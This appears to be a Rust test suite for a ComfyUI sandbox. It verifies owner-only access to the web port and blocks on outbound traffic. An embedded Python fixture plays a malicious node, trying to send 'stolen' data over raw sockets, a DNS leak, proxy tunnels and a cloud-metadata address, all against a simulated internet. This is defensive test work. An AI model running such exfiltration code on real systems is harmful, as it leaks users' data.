//! Who reaches ComfyUI, and whom ComfyUI reaches; with real users and real packets.

use std::io::{BufRead, BufReader};
use std::process::{Child, Stdio};

use super::confined::{Run, ready};
use super::machine::{Machine, private, said};

/// What a user of the machine gets from the port.
fn ask(m: &Machine, user: &str, port: u16, more: &[&str]) -> String {
    let url = format!("http://127.0.0.1:{port}/system_stats");
    let script = "import sys, urllib.request, urllib.error\nr = \
        urllib.request.Request(sys.argv[1], headers=dict(h.split(': ', 1) for h in sys.argv[2:]))\n\
        try: print(urllib.request.urlopen(r).read().decode()[:90])\nexcept urllib.error.HTTPError \
        as e: print(e.code, e.read().decode())";
    let out = m
        .as_user(
            user,
            "/usr/bin/python3",
            &[&["-c", script, &url], more].concat(),
        )
        .output()
        .unwrap();
    said(&out).trim().to_string()
}

#[test]
fn only_the_owner_reaches_comfyui() {
    private("network::only_the_owner_reaches_comfyui", |m| {
        let port = ready(m, "", str::to_string);
        let run = Run::start(m);
        assert!(ask(m, "alice", port, &[]).contains("comfyui_version"));
        // Nor is root the owner: what runs as root fetches for others. The owner's token says
        // otherwise.
        let root = "403 comfy: root does not count as the owner, because services that run as root fetch addresses for others: use the address that `comfy open` prints, or send the token of \
            `comfy open --token`";
        assert_eq!(ask(m, "root", port, &[]), root);
        let token = said(&m.alice(&["open", "--token"]));
        assert!(
            ask(
                m,
                "root",
                port,
                &[&format!("Authorization: Bearer {}", token.trim())]
            )
            .contains("comfyui_version")
        );
        // The front does not rest on the firewall.
        m.sh("nft delete table inet comfy_$(id -u comfyui_sandbox)");
        for user in ["mallory", "comfyui_sandbox"] {
            let uid = m.sh(&format!("id -u {user}"));
            assert_eq!(
                ask(m, user, port, &[]),
                format!(
                    "403 comfy: this ComfyUI does not belong to uid {uid} \
                     (network.clients in comfy.toml)"
                )
            );
        }
        assert!(
            ask(m, "alice", port, &["Host: evil.test"])
                .starts_with("403 comfy: Host evil.test is not a name of this ComfyUI")
        );
        assert!(
            ask(m, "alice", port, &["Origin: http://evil.test"])
                .starts_with("403 comfy: a page of http://evil.test")
        );
        assert!(
            ask(
                m,
                "alice",
                port,
                &["Sec-Fetch-Site: cross-site", "Sec-Fetch-Dest: image"]
            )
            .starts_with("403 comfy: another site sent the request")
        );
        // Under a number that no account has, with nothing of root's left.
        let front = m.sh(
            "for p in /proc/[0-9]*; do tr '\\0' ' ' < $p/cmdline 2>/dev/null | grep \
            -q '__gateway' && grep -E '^(Uid|Gid|Groups|CapEff|NoNewPrivs):' $p/status; done",
        );
        let line = |name: &str| {
            front
                .lines()
                .find(|l| l.starts_with(name))
                .unwrap()
                .split_whitespace()
                .skip(1)
                .collect::<Vec<_>>()
        };
        assert!(
            line("Uid")[0] == "58203" && line("Gid")[0] == "58203" && line("Groups").is_empty(),
            "{front}"
        );
        assert!(
            line("CapEff") == ["0000000000000000"] && line("NoNewPrivs") == ["1"],
            "{front}"
        );
        // What proves the owner elsewhere is the owner's alone.
        assert_eq!(
            m.sh("stat -c '%U %a' /var/lib/comfy/comfyui_sandbox/front.json"),
            "alice 400"
        );
        run.end();
        m.sh("test ! -e /var/lib/comfy/comfyui_sandbox/front.json");
        m.clean();
        // Opened to every user of the machine, and to no other site.
        m.manifest(
            &(std::fs::read_to_string(m.dot.join("comfy.toml")).unwrap()
                + "\n[network]\nclients = \"any\"\n"),
        );
        m.apply();
        let run = Run::start(m);
        assert!(ask(m, "mallory", port, &[]).contains("comfyui_version"));
        assert!(ask(m, "mallory", port, &["Origin: http://evil.test"]).starts_with("403 "));
        run.end();
    });
}

/// Everything that a node could send, straight and by the proxy; prints what came of each.
const SEND: &str = r#"
import os, socket
def talk(name, f):
    try: print(f"SENT {name} {f()}\n", end="", flush=True)
    except Exception as e: print(f"SENT {name} {type(e).__name__}\n", end="", flush=True)
def straight(family, kind, address, protocol=0, text=b"stolen"):
    s = socket.socket(family, kind, protocol); s.settimeout(2); s.connect(address); s.send(text); return s.recv(5)
def proxied(target):
    host, port = os.environ["HTTPS_PROXY"].removeprefix("http://").split(":")
    s = socket.create_connection((host, int(port)), 5); s.settimeout(10)
    s.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    head = b""
    while b"\r\n\r\n" not in head: head += s.recv(1000)
    if b" 200 " in head.split(b"\r\n")[0]:
        s.sendall(b"ping"); return s.recv(4)
    return head.split(b"\r\n")[0]
T, U = socket.SOCK_STREAM, socket.SOCK_DGRAM
talk("tcp", lambda: straight(socket.AF_INET, T, ("93.184.216.34", 443)))
talk("udp", lambda: straight(socket.AF_INET, U, ("93.184.216.34", 53)))
talk("ipv6", lambda: straight(socket.AF_INET6, T, ("2606:2800::34", 443)))
talk("icmp", lambda: straight(socket.AF_INET, U, ("93.184.216.34", 0), socket.IPPROTO_ICMP, b"\x08" + bytes(7)))
talk("name", lambda: socket.getaddrinfo("leak.test", 443))
for target in ("allowed.test:443", "other.test:443", "other.test:443", "93.184.216.34:443", "allowed.test:80", "here.test:443", "meta.test:443", "127.0.0.1:LOCAL"):
    talk(target, lambda: proxied(target))
talk("offline", lambda: (os.environ.get("HF_HUB_OFFLINE"), os.environ.get("TRANSFORMERS_OFFLINE")))
"#;

/// The internet: answers on every address and port that is tried, and says what packets came.
const INTERNET: &str = r#"
import socket, struct, sys, threading
def tcp(family, address):
    s = socket.socket(family, socket.SOCK_STREAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(address); s.listen()
    def loop():
        while True:
            c, _ = s.accept(); c.sendall(c.recv(100)); c.close()
    threading.Thread(target=loop, daemon=True).start()
for family, host in ((socket.AF_INET, "93.184.216.34"), (socket.AF_INET6, "2606:2800::34")):
    for port in (80, 443): tcp(family, (host, port))
raw = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))
print("ready", flush=True)
while True:
    packet, (_, protocol, *_) = raw.recvfrom(2000)
    if protocol == 0x0800: kind, at, to = packet[9], (packet[0] & 15) * 4, socket.inet_ntoa(packet[16:20])
    elif protocol == 0x86dd: kind, at, to = packet[6], 40, socket.inet_ntop(socket.AF_INET6, packet[24:40])
    else: continue
    if kind == 58: continue  # neighbours
    if to.startswith("93.184.216.34") or to == "2606:2800::34" or kind == 1:
        print("PACKET", kind, to, struct.unpack("!H", packet[at + 2:at + 4])[0], flush=True)
"#;

struct Internet(Child, std::sync::mpsc::Receiver<String>);

impl Internet {
    /// On the other end of a cable, with names in /etc/hosts.
    fn new(m: &Machine) -> Internet {
        m.sh(
            "ip netns add internet; ip link add out type veth peer name in netns internet
             ip addr add 93.184.216.1/24 dev out; ip -6 addr add 2606:2800::1/64 dev out nodad; ip \
             link set out up
             ip -n internet addr add 93.184.216.34/24 dev in; ip -n internet -6 addr add \
             2606:2800::34/64 dev in nodad; ip -n internet link set in up; ip -n internet link set \
             lo up
             ip route add default via 93.184.216.34; printf '%s\\n' '93.184.216.34 allowed.test \
             other.test' '127.0.0.1 here.test' '169.254.169.254 meta.test' >> /etc/hosts
             echo 'nameserver 93.184.216.34' > /etc/resolv.conf",
        );
        let mut child = std::process::Command::new("ip")
            .args(["netns", "exec", "internet", "python3", "-c", INTERNET])
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
        assert_eq!(lines.next().unwrap().unwrap(), "ready");
        let (tell, hear) = std::sync::mpsc::channel();
        std::thread::spawn(move || lines.map_while(Result::ok).for_each(|l| drop(tell.send(l))));
        Internet(child, hear)
    }

    /// What packets came until now, each kind once.
    fn packets(&self) -> Vec<String> {
        std::thread::sleep(std::time::Duration::from_millis(300));
        let mut all: Vec<String> = self.1.try_iter().collect();
        all.sort();
        all.dedup();
        all
    }
}

impl Drop for Internet {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn nothing_leaves_but_what_the_list_allows() {
    private("network::nothing_leaves_but_what_the_list_allows", |m| {
        let internet = Internet::new(m);
        let local = std::net::TcpListener::bind(("127.0.0.1", 0)).unwrap();
        let payloads = SEND.replace("LOCAL", &local.local_addr().unwrap().port().to_string());
        // The cable works: the bare user reaches it.
        std::fs::write("/srv/send.py", &payloads).unwrap();
        let run_bare = |m: &Machine| {
            let out = m
                .as_user(
                    "mallory",
                    "/usr/bin/env",
                    &[
                        "HTTPS_PROXY=http://127.0.0.1:1",
                        "/usr/bin/python3",
                        "/srv/send.py",
                    ],
                )
                .output()
                .unwrap();
            said(&out)
        };
        let bare = run_bare(m);
        assert!(
            bare.contains("SENT tcp b'stole'") && bare.contains("SENT ipv6 b'stole'"),
            "{bare}"
        );
        assert!(
            internet
                .packets()
                .contains(&"PACKET 17 93.184.216.34 53".to_string())
        );

        let with =
            |lines: &str| ready(m, &payloads, |text| format!("{text}\n[network]\n{lines}\n"));
        let went = |m: &Machine| {
            internet.packets();
            let run = Run::start(m);
            let log = run.end();
            // The gateway's words come beside the node's, so their order among each other says
            // nothing.
            let of = |start: &'static str| {
                log.lines()
                    .filter(move |l| l.starts_with(start))
                    .map(str::to_string)
            };
            let sent: Vec<String> = of("SENT").chain(of("comfy: ")).collect();
            format!("{}\n{}", sent.join("\n"), internet.packets().join("\n"))
                .replace(&local.local_addr().unwrap().port().to_string(), "LOCAL")
        };
        with("egress = \"deny\"");
        insta::assert_snapshot!(went(m), @r#"
        SENT tcp OSError
        SENT udp OSError
        SENT ipv6 OSError
        SENT icmp PermissionError
        SENT name gaierror
        SENT allowed.test:443 b'HTTP/1.1 403 Forbidden'
        SENT other.test:443 b'HTTP/1.1 403 Forbidden'
        SENT other.test:443 b'HTTP/1.1 403 Forbidden'
        SENT 93.184.216.34:443 b'HTTP/1.1 403 Forbidden'
        SENT allowed.test:80 b'HTTP/1.1 403 Forbidden'
        SENT here.test:443 b'HTTP/1.1 403 Forbidden'
        SENT meta.test:443 b'HTTP/1.1 403 Forbidden'
        SENT 127.0.0.1:LOCAL b'HTTP/1.1 403 Forbidden'
        SENT offline ('1', '1')
        comfy: ComfyUI tried to reach allowed.test:443, which network.egress does not allow; to allow it: [network] egress = ["allowed.test:443"]
        comfy: ComfyUI tried to reach other.test:443, which network.egress does not allow; to allow it: [network] egress = ["other.test:443"]
        comfy: ComfyUI tried to reach 93.184.216.34:443, which network.egress does not allow; to allow it: [network] egress = ["93.184.216.34:443"]
        comfy: ComfyUI tried to reach allowed.test:80, which network.egress does not allow; to allow it: [network] egress = ["allowed.test:80"]
        comfy: ComfyUI tried to reach here.test:443, which network.egress does not allow; to allow it: [network] egress = ["here.test:443"]
        comfy: ComfyUI tried to reach meta.test:443, which network.egress does not allow; to allow it: [network] egress = ["meta.test:443"]
        comfy: ComfyUI tried to reach 127.0.0.1:LOCAL, which network.egress does not allow; to allow it: [network] egress = ["127.0.0.1:LOCAL"]
        "#);
        with("egress = [\"allowed.test:443\", \"here.test:443\", \"meta.test:443\"]");
        insta::assert_snapshot!(went(m), @r#"
        SENT tcp OSError
        SENT udp OSError
        SENT ipv6 OSError
        SENT icmp PermissionError
        SENT name gaierror
        SENT allowed.test:443 b'ping'
        SENT other.test:443 b'HTTP/1.1 403 Forbidden'
        SENT other.test:443 b'HTTP/1.1 403 Forbidden'
        SENT 93.184.216.34:443 b'HTTP/1.1 403 Forbidden'
        SENT allowed.test:80 b'HTTP/1.1 403 Forbidden'
        SENT here.test:443 b'HTTP/1.1 502 Bad Gateway'
        SENT meta.test:443 b'HTTP/1.1 502 Bad Gateway'
        SENT 127.0.0.1:LOCAL b'HTTP/1.1 403 Forbidden'
        SENT offline ('1', '1')
        comfy: ComfyUI tried to reach other.test:443, which network.egress does not allow; to allow it: [network] egress = ["allowed.test:443", "here.test:443", "meta.test:443", "other.test:443"]
        comfy: ComfyUI tried to reach 93.184.216.34:443, which network.egress does not allow; to allow it: [network] egress = ["allowed.test:443", "here.test:443", "meta.test:443", "93.184.216.34:443"]
        comfy: ComfyUI tried to reach allowed.test:80, which network.egress does not allow; to allow it: [network] egress = ["allowed.test:443", "here.test:443", "meta.test:443", "allowed.test:80"]
        comfy: ComfyUI tried to reach 127.0.0.1:LOCAL, which network.egress does not allow; to allow it: [network] egress = ["allowed.test:443", "here.test:443", "meta.test:443", "127.0.0.1:LOCAL"]
        PACKET 6 93.184.216.34 443
        "#);
        with("egress = \"allow\"");
        insta::assert_snapshot!(went(m), @r#"
        SENT tcp OSError
        SENT udp OSError
        SENT ipv6 OSError
        SENT icmp PermissionError
        SENT name gaierror
        SENT allowed.test:443 b'ping'
        SENT other.test:443 b'ping'
        SENT other.test:443 b'ping'
        SENT 93.184.216.34:443 b'ping'
        SENT allowed.test:80 b'ping'
        SENT here.test:443 b'HTTP/1.1 502 Bad Gateway'
        SENT meta.test:443 b'HTTP/1.1 502 Bad Gateway'
        SENT 127.0.0.1:LOCAL b'HTTP/1.1 502 Bad Gateway'
        SENT offline (None, None)
        PACKET 6 93.184.216.34 443
        PACKET 6 93.184.216.34 80
        "#);
    });
}

#[test]
fn outside_of_a_launch_the_sandbox_s_uid_sends_nothing() {
    private(
        "network::outside_of_a_launch_the_sandbox_s_uid_sends_nothing",
        |m| {
            let internet = Internet::new(m);
            let service = std::net::TcpListener::bind(("127.0.0.1", 0)).unwrap();
            let here = format!("127.0.0.1:{}", service.local_addr().unwrap().port());
            let port = ready(m, "", str::to_string);
            std::fs::write(
                "/srv/send.py",
                SEND.replace("talk(target", "0 and talk(target"),
            )
            .unwrap();
            let send = |user: &str| {
                said(
                    &m.as_user(user, "/usr/bin/python3", &["/srv/send.py"])
                        .output()
                        .unwrap(),
                )
            };
            let reach = |user: &str| {
                let (host, port) = here.split_once(':').unwrap();
                let script =
                    format!("import socket; socket.create_connection(('{host}', {port}), 2)");
                m.as_user(user, "/usr/bin/python3", &["-c", &script])
                    .output()
                    .unwrap()
                    .status
                    .success()
            };
            assert!(send("mallory").contains("SENT tcp b'stole'") && reach("mallory"));
            internet.packets();
            let sent = send("comfyui_sandbox");
            assert!(
                sent.contains("SENT tcp Connection")
                    && !sent.contains("b'")
                    && !reach("comfyui_sandbox"),
                "{sent}"
            );
            assert_eq!(internet.packets(), [""; 0]);
            // Gone with a restart of the machine, or by hand: seen by root, loaded again at the
            // next launch.
            let uid = m.sh("id -u comfyui_sandbox");
            m.sh(&format!("nft delete table inet comfy_{uid}"));
            let plan = said(&m.root(&["plan"]));
            assert!(
                plan.contains("# network.egress will be updated")
                    && plan.contains(&format!("uid {uid} sends nothing outside a launch")),
                "{plan}"
            );
            Run::start(m).end();
            assert!(!said(&m.root(&["plan"])).contains("network.egress"));
            m.sh("sed -i 's/^/x/' /var/lib/comfy/comfyui_sandbox/fence");
            assert_eq!(
                m.differing(),
                ["network.egress"],
                "the owner's plan knows by the record"
            );
            m.apply();
            m.clean();
            // A way out in comfy.toml: no such rules, and a plan that says what that means.
            let manifest = std::fs::read_to_string(m.dot.join("comfy.toml")).unwrap();
            m.manifest(&format!(
                "{manifest}\n[network]\negress = [\"allowed.test:443\"]\n"
            ));
            let plan = said(&m.alice(&["plan"]));
            assert!(
                plan.contains("ComfyUI can send anything it can read to an allowed host"),
                "{plan}"
            );
            m.manifest(&format!("{manifest}\n[network]\negress = \"allow\"\n"));
            let plan = said(&m.alice(&["plan", "--only", "network"]));
            assert!(
                plan.contains("Plan: 0 to add, 1 to change, 0 to destroy"),
                "{plan}"
            );
            m.apply();
            m.clean();
            assert!(reach("comfyui_sandbox"));
            m.manifest(&manifest);
            m.apply();
            let out = m.root(&["destroy", "--yes"]);
            assert!(out.status.success(), "{}", said(&out));
            assert_eq!(m.sh("nft list tables"), "");
            let _ = port;
        },
    );
}
